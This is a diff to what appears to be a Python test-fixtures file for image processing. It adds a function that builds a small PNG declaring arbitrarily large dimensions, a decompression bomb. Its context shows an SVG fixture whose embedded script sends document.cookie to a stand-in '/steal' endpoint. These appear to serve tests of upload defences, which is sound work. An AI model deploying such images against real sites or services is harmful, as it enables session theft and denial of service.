@@ -67,6 +67,23 @@ def png_header_only(width: int, height: int) -> bytes:
     )
 
 
+def png_of_zeros(width: int, height: int) -> bytes:
+    """A complete, valid 1-bit greyscale PNG, all black: tiny on disk however large.
+
+    Rows are compressed one at a time, so building it takes no more memory than a row.
+    """
+    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
+    row = bytes(1 + (width + 7) // 8)  # the filter byte, then the packed pixels
+    compressor = zlib.compressobj(9)
+    pixels = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + _chunk(b"IHDR", header)
+        + _chunk(b"IDAT", pixels)
+        + _chunk(b"IEND", b"")
+    )
+
+
 SVG_WITH_SCRIPT = b"""<?xml version="1.0"?>
 <svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000">
   <script>fetch("http://127.0.0.1:9/steal?c=" + document.cookie)</script>
